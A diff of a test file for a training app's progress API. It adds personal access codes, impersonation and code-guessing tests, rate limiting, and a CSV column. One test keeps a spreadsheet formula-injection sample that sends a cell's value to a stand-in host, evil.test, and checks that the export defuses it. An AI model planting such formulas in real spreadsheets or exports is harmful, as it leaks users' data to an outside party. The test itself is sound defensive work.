@@ -6,7 +6,7 @@
  */
 import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { ParticipantProgress, ProgressEntry } from '@front-desk-rm/engine';
+import { normalisePersonalCode, type HostParticipantProgress, type ProgressEntry } from '@front-desk-rm/engine';
 import { hostProgress } from '../host-progress.js';
 import { progressCsv } from '../progress-csv.js';
 import { DEMO_GAME_CODE } from '../seed.js';
@@ -26,6 +26,7 @@ let arjun: { token: string };
 
 const PRIYA = 'priya.nair@demo.frontdeskrm.test';
 const ARJUN = 'arjun.mehta@demo.frontdeskrm.test';
+const ZOE = 'zoe@hotel.test';
 
 const weekData = (name: string, demandModel?: 'forecast') => ({
   name,
@@ -103,8 +104,11 @@ async function pulledSince(since: string) {
 }
 
 const progressOf = async (token: string) =>
-  (await ok(await h.call('GET', '/api/progress', { token }))) as { participants: ParticipantProgress[]; working: number };
-const person = (progress: { participants: ParticipantProgress[] }, email: string) => progress.participants.find((p) => p.email === email);
+  (await ok(await h.call('GET', '/api/progress', { token }))) as { participants: HostParticipantProgress[]; working: number };
+const person = (progress: { participants: HostParticipantProgress[] }, email: string) => progress.participants.find((p) => p.email === email);
+/** The participant's own history, with a personal code or without. */
+const mineWith = (token: string, code?: string) =>
+  h.call('GET', `/api/progress/mine${code === undefined ? '' : `?code=${encodeURIComponent(code)}`}`, { token });
 
 beforeAll(async () => {
   h = await startHarness();
@@ -209,6 +213,7 @@ describe('GET /api/progress/csv', () => {
     expect(parsed.meta.fields).toEqual([
       'Name',
       'E-mail',
+      'Personal code',
       'Session',
       'Round',
       'Played at',
@@ -221,8 +226,8 @@ describe('GET /api/progress/csv', () => {
     ]);
     const json = person(await progressOf(host), PRIYA)!;
     const rows = parsed.data.filter((row) => row['E-mail'] === PRIYA);
-    expect(rows.map((row) => [row.Name, row.Session, row.Round, row.Team])).toEqual(
-      json.entries.map((e) => ['Priya N.', e.sessionName, String(e.round), e.teamName]),
+    expect(rows.map((row) => [row.Name, row['Personal code'], row.Session, row.Round, row.Team])).toEqual(
+      json.entries.map((e) => ['Priya N.', json.personalCode, e.sessionName, String(e.round), e.teamName]),
     );
     const kept = json.entries[1]!;
     expect(rows[1]).toMatchObject({
@@ -241,7 +246,7 @@ describe('GET /api/progress/csv', () => {
   it('defuses a formula that runs over two lines, as a name stored before names were kept to one line would', async () => {
     const json = person(await progressOf(host), PRIYA)!;
     const twoLines = '=HYPERLINK("http://evil.test/?leak="&B2,"Open")\nx';
-    const csv = progressCsv([{ ...json, name: twoLines, email: ' @evil.test' } as ParticipantProgress]);
+    const csv = progressCsv([{ ...json, name: twoLines, email: ' @evil.test' }]);
     const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\ufeff/, '').trim(), { header: true });
     expect(parsed.data[0]!.Name).toBe(`'${twoLines}`);
     expect(parsed.data[0]!['E-mail']).toBe("' @evil.test");
@@ -262,22 +267,80 @@ describe('GET /api/progress/csv', () => {
 });
 
 describe('GET /api/progress/mine', () => {
-  it("answers a participant their own rounds in the host's sessions by their e-mail, the live round's best week hidden", async () => {
-    const mine = await ok(await h.call('GET', '/api/progress/mine', { token: priya.token }));
+  it("answers a participant with their personal code their own rounds in the host's sessions by their e-mail, the live round's best week hidden", async () => {
+    const code = person(await progressOf(host), PRIYA)!.personalCode;
+    expect(code).toMatch(/^[0-9A-HJKMNP-TV-Z]{4}-[0-9A-HJKMNP-TV-Z]{4}$/);
+    const mine = await ok(await mineWith(priya.token, code));
     expect(mine.name).toBe('Priya N.');
+    expect(mine.scope).toBe('all');
     expect(mine.entries.map((e: ProgressEntry) => [e.sessionName, e.optimumState])).toEqual([
       ['Demo Grand Hotel', 'hidden'],
       ['Forecast workshop', 'known'],
     ]);
     expect(mine.entries[0]).toMatchObject({ optimum: null, share: null });
-    // From the demo's own sign-in the same history; from the other host's session, only that host's round.
-    expect((await ok(await h.call('GET', '/api/progress/mine', { token: (await h.captain(0)).token }))).entries).toEqual(mine.entries);
-    const elsewhere = await ok(await h.call('GET', '/api/progress/mine', { token: priyaElsewhere.token }));
-    expect(elsewhere.entries.map((e: ProgressEntry) => e.sessionName)).toEqual(["Other host's week"]);
+    // The code is read as typed by hand: lower case, spaces, no dash, O for 0 and I or L for 1.
+    const typed = code.toLowerCase().replace('-', ' ').replace(/0/g, 'o').replace(/1/g, 'l');
+    expect(normalisePersonalCode(typed)).toBe(code.replace('-', ''));
+    // From the demo's own sign-in, the same code gives the same history: it is the person's, in every session of the host's.
+    expect((await ok(await mineWith((await h.captain(0)).token, typed))).entries).toEqual(mine.entries);
+    // In the other host's session, only that host's round, and only with the code that host gives her.
+    const theirs = person(await progressOf(other), PRIYA)!.personalCode;
+    expect(theirs).not.toBe(code);
+    expect((await ok(await mineWith(priyaElsewhere.token, theirs))).entries.map((e: ProgressEntry) => e.sessionName)).toEqual(["Other host's week"]);
+    expect(await mineWith(priyaElsewhere.token, code)).toMatchObject({ status: 403 });
+  });
+
+  it('without the personal code answers the rounds of the session signed in to, and no other', async () => {
+    const mine = await ok(await mineWith(priya.token));
+    expect(mine.scope).toBe('session');
+    expect(mine.entries.map((e: ProgressEntry) => e.sessionName)).toEqual(['Forecast workshop']);
+    expect((await ok(await mineWith((await h.captain(0)).token))).entries.map((e: ProgressEntry) => e.sessionName)).toEqual(['Demo Grand Hotel']);
+  });
+
+  it("keeps a person's history from someone who knows only their e-mail and a game code", async () => {
+    // The attacker joins a session of the host's that Zoe is not in, as Zoe, and asks for her history.
+    const open = (await ok(await h.call('POST', '/api/session/createSession', { token: host, body: { sessionData: weekData('Open day') } }), 201)).session as {
+      id: string;
+      gameCode: string;
+    };
+    await ok(await h.call('POST', '/api/user/addMember', { body: { name: 'Zoe', email: ZOE, phone: '+91 98765 43210', sessionCode: open.gameCode } }), 201);
+    const impostor = await h.joinAs(ZOE, open.gameCode);
+    const plain = await mineWith(impostor.token);
+    expect(await ok(plain)).toMatchObject({ scope: 'session', entries: [] });
+    expect(JSON.stringify(plain.json)).not.toMatch(/Forecast workshop/);
+    // A guessed code, a code of someone else's and a code of the wrong shape: refused in words, nothing shown.
+    const priyas = person(await progressOf(host), PRIYA)!.personalCode;
+    for (const guess of ['K7QM-2XRP', priyas]) {
+      const r = await mineWith(impostor.token, guess);
+      expect(r).toMatchObject({
+        status: 403,
+        json: { success: false, message: 'That personal code is not yours: ask your trainer for the code beside your name on their Progress screen' },
+      });
+      expect(JSON.stringify(r.json)).not.toMatch(/Forecast workshop/);
+    }
+    expect(await mineWith(impostor.token, 'ABC')).toMatchObject({
+      status: 400,
+      json: { message: expect.stringContaining('A personal code is 8 letters and digits') },
+    });
+  });
+
+  it('counts the tries of a code per address, as a login: a guesser is stopped, the page without a code still answers', async () => {
+    const limited = await startHarness({ limits: { loginPerWindow: 3 } });
+    try {
+      const { token } = await limited.captain(0);
+      const statuses: number[] = [];
+      for (const guess of ['AAAA-AAAA', 'AAAA-AAAB', 'AAAA-AAAC', 'AAAA-AAAD'])
+        statuses.push((await limited.call('GET', `/api/progress/mine?code=${guess}`, { token })).status);
+      expect(statuses).toEqual([403, 403, 403, 429]);
+      expect((await limited.call('GET', '/api/progress/mine', { token })).status).toBe(200);
+    } finally {
+      await limited.close();
+    }
   });
 
   it("never shows anyone else's history", async () => {
-    const r = await h.call('GET', '/api/progress/mine', { token: arjun.token });
+    const code = person(await progressOf(host), ARJUN)!.personalCode;
+    const r = await mineWith(arjun.token, code);
     const mine = await ok(r);
     expect(mine.entries).toHaveLength(1);
     expect(JSON.stringify(r.json)).not.toMatch(/priya|Forecast workshop/i);
@@ -356,8 +419,8 @@ describe('POST /api/progress/remove', () => {
     const pulled = (await pulledSince(head)).changes;
     expect(pulled.filter((c) => c.table === 'members' && c.row?.name === 'Removed participant')).toHaveLength(2);
 
-    const mine = await ok(await h.call('GET', '/api/progress/mine', { token: priya.token }));
-    expect(mine).toEqual({ name: 'Removed participant', entries: [], working: 0 });
+    const mine = await ok(await mineWith(priya.token));
+    expect(mine).toEqual({ name: 'Removed participant', scope: 'session', entries: [], working: 0 });
 
     // Nothing left to find in the host's sessions, as someone holding the host's token or a copy of the database would
     // look: no change a device pulls from zero, no change-log or member row, and no rate-limit key (e-mails are hashed
